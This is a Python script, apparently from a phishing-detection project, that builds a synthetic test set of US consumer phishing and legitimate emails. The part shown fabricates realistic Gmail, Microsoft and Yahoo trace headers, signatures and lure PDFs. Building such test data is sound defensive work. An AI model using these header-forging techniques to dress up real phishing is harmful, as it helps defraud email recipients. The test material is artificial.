#!/usr/bin/env python3
"""Build the eleventh blind set: North-American consumer and small-business phishing, 2023-2026.

The 50 phishing messages are the ones that reach ordinary inboxes in the
United States: Gmail, Outlook.com and Hotmail, Yahoo (and the AT&T,
Verizon and AOL mailboxes it hosts), iCloud, Comcast/Xfinity, Spectrum, and
small businesses with their own (invented) domains on Google Workspace or
Microsoft 365. They imitate unpaid tolls (E-ZPass, SunPass, FasTrak, TxTag),
parcel redelivery and customs fees, IRS, state tax, Social Security, DMV and
Medicare notices, the big banks and Navy Federal, Zelle, Venmo, Cash App,
PayPal, Amazon, Apple, Microsoft, Netflix, Spotify, loyalty surveys, Geek
Squad/Norton/McAfee callback invoices, Coinbase and Ledger, Meta page
"violations", LinkedIn job offers, Etsy and Shopify seller notices, GoDaddy
renewals, ADP and QuickBooks, and real-estate wire fraud; a few are in
Spanish. They come from compromised mailboxes, free mail, lookalike and
new-TLD domains and abused bulk senders (SendGrid, Mailchimp, Amazon SES,
Brevo, even PayPal's, Intuit's and Salesforce's own servers), and lead
through shorteners, open redirects, compromised WordPress sites and free
hosting, QR codes, HTML attachments, PDF-only phone numbers and text tricks.
Each carries the trace headers its receiving provider writes (Received
chain, Authentication-Results, ARC, Exchange Online Protection's and
Gmail's own headers). The 25 legitimate messages are what these imitate:
genuine toll statements and USPS Informed Delivery, a tax preparer's and
Social Security's link-free notices, bank, Zelle, Venmo, PayPal, Amazon,
Apple, Netflix, Coinbase and Facebook notifications, a Costco newsletter, a
title company's DocuSign closing packet and the realtor's wire-fraud
warning, a contractor's QuickBooks invoice, a Geek Squad appointment, a
GoDaddy renewal reminder, family photo albums, a friend asking to be paid
by Zelle and a parish newsletter on groups.io. Everything is generated
deterministically (dates, identifiers and signatures derived from hashes of
the sample name, fixed boundaries, fixed PDF dates), so re-running leaves the
files unchanged. Run from the repository root:

    .venv/bin/python samples/tools/build_blind11_samples.py
"""

from __future__ import annotations

import base64
import hashlib
import io
import sys
import zlib
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from email.utils import format_datetime
from pathlib import Path
from zoneinfo import ZoneInfo

TOOLS = Path(__file__).resolve().parent
sys.path.insert(0, str(TOOLS))

import files  # noqa: E402
import mime  # noqa: E402
from mime import Leaf, Multi, attachment, text  # noqa: E402

ROOT = TOOLS.parents[1]
MAIL = ROOT / "samples" / "mail"
MANIFEST = TOOLS / "blind11_manifest.txt"

UTC = timezone.utc
PT = ZoneInfo("America/Los_Angeles")
ET = ZoneInfo("America/New_York")
CT = ZoneInfo("America/Chicago")
MT = ZoneInfo("America/Denver")

# --------------------------------------------------------------------------
# deterministic identifiers


def _chain(name: str, salt: str, n: int) -> bytes:
    out = b""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"b11|{name}|{salt}|{i}".encode()).digest()
        i += 1
    return out[:n]


def hx(name: str, salt: str, n: int) -> str:
    return _chain(name, salt, (n + 1) // 2).hex()[:n]


def b64(name: str, salt: str, nbytes: int) -> str:
    return base64.b64encode(_chain(name, salt, nbytes)).decode()


def ub64(name: str, salt: str, nchars: int) -> str:
    return base64.urlsafe_b64encode(_chain(name, salt, nchars)).decode().rstrip("=")[:nchars]


ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
UPNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"


def an(name: str, salt: str, n: int, alphabet: str = ALNUM) -> str:
    return "".join(alphabet[b % len(alphabet)] for b in _chain(name, salt, n))


def num(name: str, salt: str, lo: int, hi: int) -> int:
    return lo + int.from_bytes(_chain(name, salt, 8), "big") % (hi - lo + 1)


def digits(name: str, salt: str, n: int) -> str:
    return "".join(str(b % 10) for b in _chain(name, salt, n))


def guid(name: str, salt: str, upper: bool = False) -> str:
    h = hx(name, salt, 32)
    g = f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"
    return g.upper() if upper else g


def fold(value: str, width: int = 72, indent: str = "\t") -> str:
    """Break a long unbroken token (a signature) over continuation lines."""
    return f"\n{indent}".join(value[i:i + width] for i in range(0, len(value), width))


# --------------------------------------------------------------------------
# dates and header text


def at(stamp: str) -> datetime:
    """A UTC arrival time from 'YYYY-MM-DD HH:MM:SS'."""
    return datetime.strptime(stamp, "%Y-%m-%d %H:%M:%S").replace(tzinfo=UTC)


def rfc(dt: datetime, tz=UTC) -> str:
    return format_datetime(dt.astimezone(tz))


def gtime(dt: datetime) -> str:
    local = dt.astimezone(PT)
    return f"{format_datetime(local)} ({local.tzname()})"


def mstime(dt: datetime) -> str:
    return dt.astimezone(UTC).strftime("%d %b %Y %H:%M:%S") + f".{(int(dt.timestamp()) * 7919) % 10000:04d} (UTC)"


def ew(value: str) -> str:
    """RFC 2047 encoded words for a non-ASCII header value."""
    if all(ord(c) < 128 for c in value):
        return value
    chunks, cur = [], ""
    for ch in value:
        if len((cur + ch).encode()) > 42:
            chunks.append(cur)
            cur = ch
        else:
            cur += ch
    chunks.append(cur)
    return "\n ".join(f"=?UTF-8?B?{base64.b64encode(c.encode()).decode()}?=" for c in chunks)


def addr(display: str, email: str) -> str:
    if not display:
        return email
    if any(ord(c) > 127 for c in display):
        return f"{ew(display)} <{email}>"
    if any(c in display for c in ',.;:@()<>[]"'):
        return f'"{display}" <{email}>'
    return f"{display} <{email}>"


# --------------------------------------------------------------------------
# MIME helpers


def boundary(name: str, style: str, salt: str = "b") -> str:
    if style == "gmail":
        return "000000000000" + hx(name, salt, 12)
    if style == "outlook":
        return f"_{num(name, salt, 0, 9):03d}_" + an(name, salt, 38, UPNUM) + "namprd" + f"{num(name, salt + 'r', 2, 22):02d}" + "prodoutlookcom_"
    if style == "php":
        return "b1=_" + an(name, salt, 43)
    if style == "sendgrid":
        return hx(name, salt, 64)
    if style == "java":
        return f"----=_Part_{num(name, salt, 100000, 999999)}_{num(name, salt + 'x', 100000000, 999999999)}.17{digits(name, salt + 't', 11)}"
    if style == "mc":
        return f"_----------=_MCPart_{digits(name, salt, 10)}"
    if style == "apple":
        return f"Apple-Mail={guid(name, salt, True)}"
    if style == "yahoo":
        return f"----=_Part_{num(name, salt, 1000000, 9999999)}_{num(name, salt + 'x', 100000000, 999999999)}.17{digits(name, salt + 't', 11)}"
    if style == "net":
        return f"--boundary_{num(name, salt, 0, 99)}_{guid(name, salt)}"
    return "=_" + hx(name, salt, 32)


def alt(name: str, style: str, plain: str, html: str, salt: str = "alt") -> Multi:
    return Multi("alternative", boundary(name, style, salt), [text(plain), text(html, "html")])


def html_only(html: str) -> Leaf:
    return text(html, "html")


def mixed(name: str, style: str, parts: list, salt: str = "mix") -> Multi:
    return Multi("mixed", boundary(name, style, salt), parts)


def related(name: str, style: str, parts: list, salt: str = "rel") -> Multi:
    return Multi("related", boundary(name, style, salt), parts, params=' type="multipart/alternative";')


def inline_image(ctype: str, filename: str, data: bytes, cid: str) -> Leaf:
    return Leaf(ctype, data, "base64", f'; name="{filename}"', f'inline; filename="{filename}"', [f"Content-ID: <{cid}>"])


# --------------------------------------------------------------------------
# attachments


def _esc(value: str) -> str:
    return value.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def pdf_doc(lines: list[str], title: str, producer: str, created: str, author: str = "",
            link: tuple[str, tuple[int, int, int, int], str] | None = None,
            qr: tuple[str, int, int, int] | None = None, bold_first: bool = True) -> bytes:
    """A one-page PDF: Helvetica text lines, optionally a link button (url, rect, label) and a QR code
    (url, x, y, size) drawn from segno's matrix as a grey image; the Info dictionary has the
    given producer and creation date (D:YYYYMMDDHHMMSS-05'00')."""
    content = ["BT", "/F1 11 Tf", "15 TL", "56 785 Td"]
    for index, line in enumerate(lines):
        if index == 0 and bold_first:
            content += ["/F2 15 Tf", f"({_esc(line)}) Tj T*", "/F1 11 Tf"]
        else:
            content.append(f"({_esc(line)}) Tj T*")
    content.append("ET")
    annots = ""
    extra_objects: list[bytes] = []
    xobject = ""
    image = None
    if link:
        x0, y0, x1, y1 = link[1]
        content += ["0.11 0.32 0.65 rg", f"{x0} {y0} {x1 - x0} {y1 - y0} re f",
                    "BT /F2 12 Tf 1 1 1 rg", f"{x0 + 16} {y0 + 11} Td ({_esc(link[2])}) Tj ET"]
    if qr:
        import segno

        url, qx, qy, size = qr
        matrix = segno.make(url, error="m", micro=False).matrix
        border, scale = 4, 4
        dim = (len(matrix) + 2 * border) * scale
        rows = []
        for y in range(dim):
            my = y // scale - border
            row = bytearray()
            for x in range(dim):
                mx = x // scale - border
                dark = 0 <= my < len(matrix) and 0 <= mx < len(matrix) and matrix[my][mx]
                row.append(0 if dark else 255)
            rows.append(bytes(row))
        image = (zlib.compress(b"".join(rows), 9), dim)
        content += ["q", f"{size} 0 0 {size} {qx} {qy} cm", "/Im1 Do", "Q"]
    stream = "\n".join(content).encode("cp1252")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        None,  # page, filled below
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding /WinAnsiEncoding >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
    ]
    if image:
        data, dim = image
        objects.append((f"<< /Type /XObject /Subtype /Image /Width {dim} /Height {dim} /ColorSpace /DeviceGray "
                        f"/BitsPerComponent 8 /Filter /FlateDecode /Length {len(data)} >>\nstream\n").encode()
                       + data + b"\nendstream")
        xobject = f" /XObject << /Im1 {len(objects)} 0 R >>"
    if link:
        x0, y0, x1, y1 = link[1]
        objects.append(f"<< /Type /Annot /Subtype /Link /Rect [{x0} {y0} {x1} {y1}] /Border [0 0 0] "
                       f"/A << /S /URI /URI ({_esc(link[0])}) >> >>".encode())
        annots = f" /Annots [{len(objects)} 0 R]"
    objects[2] = (f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R /F2 5 0 R >>"
                  f"{xobject} >> /Contents 6 0 R{annots} >>").encode()
    info = f"<< /Title ({_esc(title)}) /Producer ({_esc(producer)}) /CreationDate ({created}) /ModDate ({created})"
    if author:
        info += f" /Author ({_esc(author)})"
    objects.append((info + " >>").encode())
    return files.pdf_file(objects, len(objects), header=b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")


def text_image(lines: list[tuple[str, int, tuple[int, int, int]]], size: tuple[int, int],
               background: tuple[int, int, int] = (255, 255, 255), banner: tuple[int, int, int] | None = None,
               button: tuple[str, tuple[int, int, int]] | None = None, kind: str = "JPEG") -> bytes:
    """A picture of text (image-only bodies, scanned mailpieces): lines of (text, font size, colour)."""
    from PIL import Image, ImageDraw, ImageFont

    width, height = size
    image = Image.new("RGB", size, background)
    draw = ImageDraw.Draw(image)
    y = 24
    if banner:
        draw.rectangle([0, 0, width, 64], fill=banner)
        y = 84
    for line, font_size, colour in lines:
        font = ImageFont.load_default(size=font_size)
        draw.text((36, y), line, fill=colour, font=font)
        y += int(font_size * 1.5)
    if button:
        label, colour = button
        draw.rounded_rectangle([36, y + 10, 296, y + 62], radius=8, fill=colour)
        draw.text((60, y + 24), label, fill=(255, 255, 255), font=ImageFont.load_default(size=20))
    buffer = io.BytesIO()
    if kind == "JPEG":
        image.save(buffer, "JPEG", quality=72)
    else:
        image.save(buffer, "PNG", optimize=False)
    return buffer.getvalue()


def mailpiece_scan(seed: int, lines: list[str]) -> bytes:
    """A grey scan of an envelope's face, as Informed Delivery shows it."""
    from PIL import Image, ImageDraw, ImageFont

    image = Image.new("L", (480, 220), 232 - seed % 12)
    draw = ImageDraw.Draw(image)
    draw.rectangle([392, 14, 462, 84], outline=90, width=2)
    draw.text((404, 38), "USA", fill=70, font=ImageFont.load_default(size=16))
    font = ImageFont.load_default(size=13)
    draw.multiline_text((18, 16), "\n".join(lines[:2]), fill=60, font=font)
    draw.multiline_text((170, 120), "\n".join(lines[2:]), fill=40, font=ImageFont.load_default(size=15))
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=60)
    return buffer.getvalue()


# --------------------------------------------------------------------------
# how the message left the sender, and how its provider recorded it


@dataclass
class Via:
    ip: str
    helo: str
    rdns: str | None
    mailfrom: str
    spf: str  # pass, fail, softfail, neutral, none
    dkim: list  # [(domain, selector, result)], result pass / fail / neutral
    dmarc: str  # pass, fail, none (no record)
    policy: str = "NONE"  # the From domain's DMARC policy
    from_domain: str = ""
    ms_tenant: str = ""  # sent from this Microsoft 365 tenant: it adds ARC i=1
    sign_headers: str = "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"
    tls: str = "TLS1_3"
    country: str = "US"


@dataclass
class Sample:
    name: str
    category: str
    description: str
    provider: str  # gmail, workspace, outlook, m365, yahoo, aol, att, verizon, icloud, comcast, spectrum
    rcpt: str
    when: datetime
    via: Via
    headers: str  # the sender's own header block (From, To, Subject, Date, Message-ID...)
    body: object
    pre: str = ""  # the sender side's Received and relay headers, below the signatures
    scl: int = 1
    bcl: int = 0
    lang: str = "en"


def _dom(address: str) -> str:
    return address.rsplit("@", 1)[-1]


def dkim_b(s: Sample, d: str, sel: str) -> str:
    return b64(s.name, f"dkim-b|{d}|{sel}", 256)


def dkim_headers(s: Sample) -> list[str]:
    out = []
    t = int((s.when - timedelta(seconds=4)).timestamp())
    for d, sel, _ in s.via.dkim:
        bh = b64(s.name, f"dkim-bh|{d}", 32)
        b = dkim_b(s, d, sel)
        out.append(f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={d};\n\ts={sel}; t={t};\n"
                   f"\th={s.via.sign_headers};\n\tbh={bh};\n\tb={fold(b)}")
    return out


def ms_arc(s: Sample) -> list[str]:
    """The ARC set a Microsoft 365 sending tenant stamps on its outbound mail."""
    v = s.via
    d = v.from_domain
    return [
        f"ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b={fold(b64(s.name, 'msarc-seal', 256), 76, ' ')}",
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;\n s=arcselector10001;\n"
        f" h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1;\n"
        f" bh={b64(s.name, 'msarc-bh', 32)};\n b={fold(b64(s.name, 'msarc-ms', 256), 76, ' ')}",
        f"ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=pass\n smtp.mailfrom={d}; dmarc=pass action=none\n header.from={d}; dkim=pass header.d={d}; arc=none",
    ]


def _spf_domain(v: Via) -> str:
    return _dom(v.mailfrom)


# ---- Gmail and Google Workspace


def gmail_auth(s: Sample, arc: bool) -> str:
    v = s.via
    parts = []
    if arc:
        parts.append(f"arc=pass (i=1 spf=pass spfdomain={v.from_domain} dkim=pass dkdomain={v.from_domain} "
                     f"dmarc=pass fromdomain={v.from_domain})")
    for d, sel, r in v.dkim:
        extra = " (body hash did not verify)" if r == "neutral" else ""
        parts.append(f"dkim={r}{extra} header.i=@{d} header.s={sel} header.b={dkim_b(s, d, sel)[:8]}")
    mf = v.mailfrom
    spf_text = {
        "pass": f"spf=pass (google.com: domain of {mf} designates {v.ip} as permitted sender) smtp.mailfrom={mf}",
        "softfail": f"spf=softfail (google.com: domain of transitioning {mf} does not designate {v.ip} as permitted sender) smtp.mailfrom={mf}",
        "fail": f"spf=fail (google.com: domain of {mf} does not designate {v.ip} as permitted sender) smtp.mailfrom={mf}",
        "neutral": f"spf=neutral (google.com: {v.ip} is neither permitted nor denied by best guess record for domain of {mf}) smtp.mailfrom={mf}",
        "none": f"spf=none (google.com: {mf} does not designate permitted sender hosts) smtp.mailfrom={mf}",
    }[v.spf]
    parts.append(spf_text)
    if v.dmarc != "none":
        dis = "NONE" if v.dmarc == "pass" or v.policy == "NONE" else v.policy
        parts.append(f"dmarc={v.dmarc} (p={v.policy} sp={v.policy} dis={dis}) header.from={v.from_domain}")
    return ";\n       ".join(parts)


def gmail_spf(v: Via) -> str:
    mf = v.mailfrom
    return {
        "pass": f"pass (google.com: domain of {mf} designates {v.ip} as permitted sender) client-ip={v.ip};",
        "softfail": f"softfail (google.com: domain of transitioning {mf} does not designate {v.ip} as permitted sender) client-ip={v.ip};",
        "fail": f"fail (google.com: domain of {mf} does not designate {v.ip} as permitted sender) client-ip={v.ip};",
        "neutral": f"neutral (google.com: {v.ip} is neither permitted nor denied by best guess record for domain of {mf}) client-ip={v.ip};",
        "none": f"none (google.com: {mf} does not designate permitted sender hosts) client-ip={v.ip};",
    }[v.spf]


def gmail_trace(s: Sample) -> tuple[list[str], list[str]]:
    v, n, t = s.via, s.name, s.when
    arc_in = bool(v.ms_tenant)
    i = 2 if arc_in else 1
    auth = gmail_auth(s, arc_in)
    gid = (f"{hx(n, 'gid1', 13)}-{hx(n, 'gid2', 10)}si{digits(n, 'gid3', 7)}.{num(n, 'gid4', 10, 999)}."
           f"{t.astimezone(PT).strftime('%Y.%m.%d.%H.%M.%S')}")
    if v.helo.startswith("mail-sor-"):
        hop = (f"Received: from {v.helo} ({v.helo}. [{v.ip}])\n        by mx.google.com with SMTPS id "
               f"{gid}\n"
               f"        for <{s.rcpt}>\n        (Google Transport Security);\n        {gtime(t)}")
    else:
        where = f"{v.rdns}. [{v.ip}]" if v.rdns else f"[{v.ip}]"
        hop = (f"Received: from {v.helo} ({where})\n        by mx.google.com with ESMTPS id "
               f"{gid}\n"
               f"        for <{s.rcpt}>\n"
               f"        (version={v.tls} cipher={'TLS_AES_256_GCM_SHA384 bits=256/256' if v.tls == 'TLS1_3' else 'ECDHE-RSA-AES128-GCM-SHA256 bits=128/128'});\n"
               f"        {gtime(t)}")
    epoch = int(t.timestamp())
    top = [
        f"Delivered-To: {s.rcpt}",
        f"Received: by 2002:a05:{hx(n, 'g1', 4)}:{hx(n, 'g2', 4)}:b0:{hx(n, 'g3', 3)}:{hx(n, 'g4', 4)}:{hx(n, 'g4b', 4)} with SMTP id "
        f"{an(n, 'g5', 14).lower()};\n        {gtime(t + timedelta(seconds=1))}",
        f"X-Google-Smtp-Source: AGHT+I{an(n, 'gsrc', 82)}",
        f"X-Received: by 2002:a05:{hx(n, 'g6', 4)}:{hx(n, 'g7', 4)}:b0:{hx(n, 'g8', 3)}:{hx(n, 'g9', 4)}:{hx(n, 'g9b', 4)} with SMTP id "
        f"{an(n, 'g10', 12).lower()}-{hx(n, 'g11', 10)}.{num(n, 'g12', 10, 99)}.{epoch}{num(n, 'g13', 100, 999)};\n"
        f"        {gtime(t + timedelta(seconds=1))}",
        f"ARC-Seal: i={i}; a=rsa-sha256; t={epoch}; cv={'pass' if arc_in else 'none'};\n        d=google.com; s=arc-20240605;\n"
        f"        b={fold(b64(n, 'garc-seal', 256), 70, '         ')}",
        f"ARC-Message-Signature: i={i}; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s=arc-20240605;\n"
        f"        h=to:subject:message-id:date:from:mime-version:dkim-signature;\n"
        f"        bh={b64(n, 'garc-bh', 32)};\n        fh={b64(n, 'garc-fh', 32)};\n"
        f"        b={fold(b64(n, 'garc-ms', 256), 70, '         ')}",
        f"ARC-Authentication-Results: i={i}; mx.google.com;\n       {auth}",
        f"Return-Path: <{v.mailfrom}>",
        hop,
        f"Received-SPF: {gmail_spf(v)}",
        f"Authentication-Results: mx.google.com;\n       {auth}",
    ]
    return top, []


# ---- Exchange Online Protection: Outlook.com and Microsoft 365 tenants

CONSUMER_TENANT = "84df9e7f-e9f6-40af-b435-aaaaaaaaaaaa"


def ms_auth(v: Via) -> tuple[str, str]:
    dom = _spf_domain(v)
    fd = v.from_domain
    spf = f"spf={v.spf} (sender IP is {v.ip})\n smtp.mailfrom={dom}"
    if v.dkim:
        d, _, r = v.dkim[0]
        for cand in v.dkim:  # EOP reports the aligned signature when there is one
            if cand[0] == fd or fd.endswith("." + cand[0]):
                d, _, r = cand
        dk = f"dkim={'pass (signature was verified)' if r == 'pass' else 'fail (body hash did not verify)'}\n header.d={d}"
    else:
        dk = "dkim=none (message not signed)\n header.d=none"
    if v.dmarc == "pass":
        dm, ca = f"dmarc=pass action=none header.from={fd}", "compauth=pass\n reason=100"
    elif v.dmarc == "fail":
        action = {"REJECT": "oreject", "QUARANTINE": "quarantine"}.get(v.policy, "none")
        dm, ca = f"dmarc=fail action={action} header.from={fd}", "compauth=fail\n reason=000"
    else:
        dm = f"dmarc=none action=none header.from={fd}"
        ca = "compauth=pass\n reason=109" if v.spf == "pass" and (dom == fd or dom.endswith("." + fd)) else "compauth=softpass\n reason=201"
    ar = f"Authentication-Results: {spf}; {dk};{dm};{ca}"
    rs = {
        "pass": f"Pass (protection.outlook.com: domain of {dom} designates\n {v.ip} as permitted sender) receiver=protection.outlook.com;\n client-ip={v.ip}; helo={v.helo}; pr=C",
        "fail": f"Fail (protection.outlook.com: domain of {dom} does not\n designate {v.ip} as permitted sender) receiver=protection.outlook.com;\n client-ip={v.ip}; helo={v.helo};",
        "softfail": f"SoftFail (protection.outlook.com: domain of transitioning\n {dom} discourages use of {v.ip} as permitted sender)",
        "neutral": f"Neutral (protection.outlook.com: {v.ip} is neither permitted nor\n denied by domain of {dom})",
        "none": f"None (protection.outlook.com: {dom} does not designate\n permitted sender hosts)",
    }[v.spf]
    return ar, f"Received-SPF: {rs}"


def ms_trace(s: Sample) -> tuple[list[str], list[str]]:
    v, n, t = s.via, s.name, s.when
    consumer = s.provider == "outlook"
    region = "NAMP220" if consumer else f"namprd{num(n, 'reg', 2, 22):02d}"
    pre = ["SN7", "PH7", "DM6", "BY5", "CH3", "MW4", "SA1", "BL1", "IA1", "CO1"]
    if consumer:
        mbx = f"{pre[num(n, 'mb', 0, 9)]}P220MB{num(n, 'mbn', 1000, 9999)}.NAMP220.PROD.OUTLOOK.COM"
        mbx2 = f"{pre[num(n, 'mb2', 0, 9)]}P220MB{num(n, 'mbx', 1000, 9999)}.NAMP220.PROD.OUTLOOK.COM"
    else:
        mbx = f"{pre[num(n, 'mb', 0, 9)]}PR{num(n, 'pr', 1, 22):02d}MB{num(n, 'mbn', 1000, 9999)}.{region}.prod.outlook.com"
        mbx2 = f"{pre[num(n, 'mb2', 0, 9)]}PR{num(n, 'pr2', 1, 22):02d}MB{num(n, 'mbx', 1000, 9999)}.{region}.prod.outlook.com"
    fe = f"{pre[num(n, 'fe', 0, 9)]}PR{num(n, 'fe2', 1, 22):02d}CA{num(n, 'fe3', 1, 9999):04d}.namprd{num(n, 'fe4', 2, 22):02d}.prod.outlook.com"
    eop = f"{pre[num(n, 'eo', 0, 9)]}PEPF0000{hx(n, 'eo2', 4).upper()}"
    eop_full = f"{eop}.namprd{num(n, 'eo3', 2, 22):02d}.prod.outlook.com"
    build = f"{num(n, 'bld', 8400, 9600)}.{num(n, 'bld2', 10, 40)}"
    v6 = lambda salt: f"2603:10b6:{hx(n, salt, 3)}:{hx(n, salt + 'b', 3)}::{hx(n, salt + 'c', 2)}"  # noqa: E731
    ar, rs = ms_auth(v)
    top = [
        f"Received: from {mbx} ({v6('a')}) by\n {mbx2} with HTTPS; {rfc(t + timedelta(seconds=2))}",
        f"Received: from {fe} ({v6('b')})\n by {mbx} ({v6('a')}) with Microsoft SMTP Server\n"
        f" (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.{build};\n {rfc(t + timedelta(seconds=2))}",
        f"Received: from {eop_full}\n ({v6('c')}) by {fe}\n ({v6('b')}) with Microsoft SMTP Server (version=TLS1_3,\n"
        f" cipher=TLS_AES_256_GCM_SHA384) id 15.20.{build} via Frontend Transport; {rfc(t + timedelta(seconds=1))}",
        ar,
        rs,
        f"Received: from {v.helo} ({v.ip}) by\n {eop}.mail.protection.outlook.com (10.167.{num(n, 'ip3', 240, 255)}.{num(n, 'ip4', 1, 254)}) with Microsoft SMTP\n"
        f" Server (version={'TLS1_3, cipher=TLS_AES_256_GCM_SHA384' if v.tls == 'TLS1_3' else 'TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384'}) id 15.20.{build}\n"
        f" via Frontend Transport; {rfc(t)}",
    ]
    tenant = CONSUMER_TENANT if consumer else guid(s.rcpt, "tenant")
    nmid = guid(n, "nmid")
    spam = s.scl >= 5
    ptr = v.rdns or "unknown"
    sfs = "(13230040)(4636009)(376014)(1800799024)(82310400026)(8096899003)" + ("(69100299015)" if spam else "")
    bottom = [
        f"Return-Path: {v.mailfrom}",
        f"X-MS-Exchange-Organization-ExpirationStartTime: {mstime(t)}",
        "X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit",
        "X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000",
        "X-MS-Exchange-Organization-ExpirationIntervalReason: OriginalSubmit",
        f"X-MS-Exchange-Organization-Network-Message-Id:\n {nmid}",
        "X-EOPAttributedMessage: 0",
        f"X-EOPTenantAttributedMessage: {tenant}:0",
        "X-MS-Exchange-Organization-MessageDirectionality: Incoming",
        "X-MS-PublicTrafficType: Email",
        f"X-MS-TrafficTypeDiagnostic:\n {eop}:EE_|{mbx.split('.')[0]}:EE_",
        f"X-MS-Exchange-Organization-AuthSource:\n {eop_full}",
        "X-MS-Exchange-Organization-AuthAs: Anonymous",
        f"X-MS-Office365-Filtering-Correlation-Id: {guid(n, 'corr')}",
        f"X-MS-Exchange-Organization-SCL: {s.scl}",
    ]
    if consumer:
        sender_addr = s.headers.split("From:", 1)[1].split("\n", 1)[0]
        sender_addr = sender_addr[sender_addr.find("<") + 1:sender_addr.find(">")] if "<" in sender_addr else sender_addr.strip()
        bottom += [
            f"X-SID-PRA: {sender_addr.upper()}",
            f"X-SID-Result: {'PASS' if v.dmarc == 'pass' or (v.dmarc == 'none' and v.spf == 'pass') else 'FAIL'}",
            "X-MS-Exchange-EOPDirect: true",
        ]
    bottom += [
        f"X-Microsoft-Antispam: BCL:{s.bcl};ARA:13230040|4636009|376014|1800799024|82310400026|8096899003{'|69100299015' if spam else ''};",
        f"X-Forefront-Antispam-Report:\n CIP:{v.ip};CTRY:{v.country};LANG:{s.lang};SCL:{s.scl};SRV:{'BULK' if s.bcl >= 7 else ''};IPV:NLI;SFV:{'SPM' if spam else 'NSPM'};H:{v.helo};PTR:{ptr};CAT:{'PHISH' if s.scl >= 8 else ('SPM' if spam else 'NONE')};SFS:{sfs};DIR:INB;",
        f"X-MS-Exchange-CrossTenant-OriginalArrivalTime: {mstime(t)}",
        f"X-MS-Exchange-CrossTenant-Network-Message-Id: {nmid}",
        f"X-MS-Exchange-CrossTenant-Id: {tenant}",
        f"X-MS-Exchange-CrossTenant-AuthSource:\n {eop_full}",
        "X-MS-Exchange-CrossTenant-AuthAs: Anonymous",
        "X-MS-Exchange-CrossTenant-FromEntityHeader: Internet",
        f"X-MS-Exchange-Transport-CrossTenantHeadersStamped: {mbx.split('.')[0]}",
        f"X-MS-Exchange-Transport-EndToEndLatency: 00:00:0{num(n, 'lat', 1, 4)}.{digits(n, 'lat2', 7)}",
        f"X-MS-Exchange-Processed-By-BccFoldering: 15.20.{build}",
        f"X-Microsoft-Antispam-Mailbox-Delivery:\n {'abwl:0;wl:0;pcwl:0;kl:0;dwl:0;dkl:0;rwl:0;' if consumer else ''}ucf:0;jmr:0;{'ex:0;' if consumer else ''}auth:{1 if v.dmarc == 'pass' else 0};dest:{'J' if spam else 'I'};ENG:(910005)(944506478)(944626604)(920097)(930097)(3100021)(140003){'(1420198)' if consumer else ''};",
        f"X-Microsoft-Antispam-Message-Info:\n {fold(b64(n, 'msgi', 240), 76, ' ')}",
    ]
    return top, bottom


# ---- Yahoo's atlas servers (Yahoo, AOL, AT&T and Verizon mailboxes)


def yahoo_trace(s: Sample) -> tuple[list[str], list[str]]:
    v, n, t = s.via, s.name, s.when
    pool = {"yahoo": "free", "aol": "aol", "verizon": "aol", "att": "free"}[s.provider]
    dc = ["bf1", "ne1", "gq1"][num(n, "ydc", 0, 2)]
    atlas = f"atlas{num(n, 'atl', 100, 340)}.{pool}.mail.{dc}.yahoo.com"
    inner = f"10.{num(n, 'y1', 192, 223)}.{num(n, 'y2', 0, 255)}.{num(n, 'y3', 1, 254)}"
    dom = _spf_domain(v)
    dk = "\n ".join(f"dkim={r if r == 'pass' else 'perm_fail'} header.i=@{d} header.s={sel};" for d, sel, r in v.dkim) or "dkim=unknown;"
    dm = {"pass": f"dmarc=pass(p={v.policy}) header.from={v.from_domain};",
          "fail": f"dmarc=fail(p={v.policy}) header.from={v.from_domain};",
          "none": f"dmarc=unknown header.from={v.from_domain};"}[v.dmarc]
    rs = {"pass": f"pass (domain of {dom} designates {v.ip} as permitted sender)",
          "fail": f"fail (domain of {dom} does not designate {v.ip} as permitted sender)",
          "softfail": f"softfail (domain of transitioning {dom} does not designate {v.ip} as permitted sender)",
          "neutral": f"neutral (domain of {dom} is neither permitted nor denied {v.ip})",
          "none": f"none (domain of {dom} does not designate permitted sender hosts)"}[v.spf]
    isg = ub64(n, "ymisg", 360).replace("-", ".").replace("_", "E")
    top = [
        f"Received: from {inner}\n by {atlas} with HTTP; {rfc(t + timedelta(seconds=1))}",
        f"Return-Path: <{v.mailfrom}>",
        f"X-Originating-Ip: [{v.ip}]",
        f"Received-SPF: {rs}",
        f"Authentication-Results: {atlas};\n {dk}\n spf={v.spf} smtp.mailfrom={dom};\n {dm}",
        f"X-Apparently-To: {s.rcpt}; {rfc(t + timedelta(seconds=1))}",
        f"X-YMailISG: {fold(isg, 76, ' ')[:]}",
